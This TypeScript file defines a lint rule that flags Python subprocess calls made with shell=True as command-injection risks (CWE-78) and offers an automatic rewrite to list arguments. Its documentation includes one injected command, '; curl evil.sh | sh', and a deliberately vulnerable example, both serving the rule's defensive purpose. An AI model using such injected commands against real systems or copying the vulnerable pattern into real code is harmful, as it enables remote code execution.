import { defineRule } from '../../engine/rule';
import type { Fix, Fixer } from '../../engine/fixer';
import type { Argument, CallSite } from '../../engine/sites';
import { brief, classifyCommand, isTruthyConstant, listLiteral, splitCommand } from './command-words';

export const SUBPROCESS_FUNCTIONS = ['subprocess.Popen', 'subprocess.run', 'subprocess.call', 'subprocess.check_call', 'subprocess.check_output'];

export default defineRule({
  meta: {
    id: 'PW301',
    name: 'subprocess-shell-true',
    title: 'Subprocess started through a shell (shell=True)',
    category: 'shell-injection',
    // Bandit B602: HIGH/HIGH when the command is computed, LOW/HIGH for a literal string; the
    // default here is the computed case, literal commands are reported with severity low.
    severity: 'high',
    confidence: 'high',
    cwe: 78,
    bandit: 'B602',
    ruff: 'S602',
    fixable: true,
    fixApplicability: ['unsafe'],
    offInTests: true,
    docs: {
      what: 'Finds `subprocess.Popen`, `run`, `call`, `check_call` and `check_output` called with `shell=True` (or a name bound to `True`). A command built at run time is reported with high severity, a fixed literal command with low severity.',
      why: 'With `shell=True` the command string is handed to `/bin/sh -c` (or `cmd.exe /c`), which interprets `;`, `|`, `&&`, `$(…)`, backticks and redirections. If any part of the string comes from a request, a file name or another program, an attacker who puts `; curl evil.sh | sh` in it runs their own commands with the privileges of the Python process. Even a fixed command today becomes injectable the day someone formats a value into it.',
      example: 'import subprocess\n\ndef thumbnail(filename):\n    subprocess.run(f"convert {filename} -resize 200x200 thumb.png", shell=True)\n\nsubprocess.run("ls -l /tmp", shell=True, check=True)',
      safe: 'import subprocess\n\ndef thumbnail(filename):\n    subprocess.run(["convert", filename, "-resize", "200x200", "thumb.png"])\n\nsubprocess.run(["ls", "-l", "/tmp"], check=True)',
      references: [
        'https://cwe.mitre.org/data/definitions/78.html',
        'https://docs.python.org/3/library/subprocess.html#security-considerations',
        'https://docs.python.org/3/library/shlex.html#shlex.quote',
      ],
    },
  },
  calls: SUBPROCESS_FUNCTIONS,

  checkCall(call, context) {
    const shell = call.keyword('shell');
    if (!shell || !isTruthyConstant(shell.value, context)) return;
    const name = call.callee.text;
    const command = call.argument(0, 'args');
    if (!command) {
      context.report(call.node, {
        message: `\`${name}\` runs its command through a shell: input in it can run other commands; pass a list without \`shell=True\`.`,
        confidence: 'medium',
      });
      return;
    }
    const kind = classifyCommand(command.value, context);
    if (kind.kind === 'dynamic') {
      context.report(call.node, {
        message: `\`${name}\` runs a run-time command through a shell (injection); pass a list without \`shell=True\`.`,
      });
      return;
    }
    if (kind.kind === 'literal-list') {
      context.report(call.node, {
        message: `\`${name}\` gets a list with \`shell=True\`: only its first item is the command; drop \`shell=True\`.`,
        severity: 'low',
      });
      return;
    }
    const split = splitCommand(kind.value);
    const blocker = 'words' in split ? fixBlocker(call, kind.direct) : split.reason;
    context.report(call.node, {
      message: `\`${name}\` starts a shell for a fixed command, injectable once a value is added; pass a list without \`shell=True\`.`,
      details: blocker ? `No automatic rewrite: ${blocker}.` : undefined,
      severity: 'low',
      fix: blocker || !('words' in split) ? undefined : (fixer) => [listFix(fixer, call, command, shell, split.words)],
    });
  },
});

/** Why a fixed command that splits cleanly still cannot be rewritten, if it cannot. */
function fixBlocker(call: CallSite, direct: boolean): string | undefined {
  if (!direct) return 'the command comes from a name, so the list belongs where it is defined';
  if (call.hasStarArgs || call.hasStarKwargs) return 'the call passes `*args` or `**kwargs`';
  if (call.keyword('executable')) return '`executable=` replaces the shell here, and would replace the program without one';
  return undefined;
}

/** `run("ls -l /tmp", shell=True)` → `run(["ls", "-l", "/tmp"])`. */
function listFix(fixer: Fixer, call: CallSite, command: Argument, shell: Argument, words: string[]): Fix {
  // Not preferred: a shell reports a missing program as exit status 127, while running the
  // program directly raises FileNotFoundError, so error handling may need a look.
  return fixer.unsafe('Pass the command as a list without shell=True', 'a missing program raises FileNotFoundError instead of exit status 127', [
    fixer.replace(command.value, listLiteral(words, command.value)),
    fixer.removeArgument(call, shell),
  ]);
}
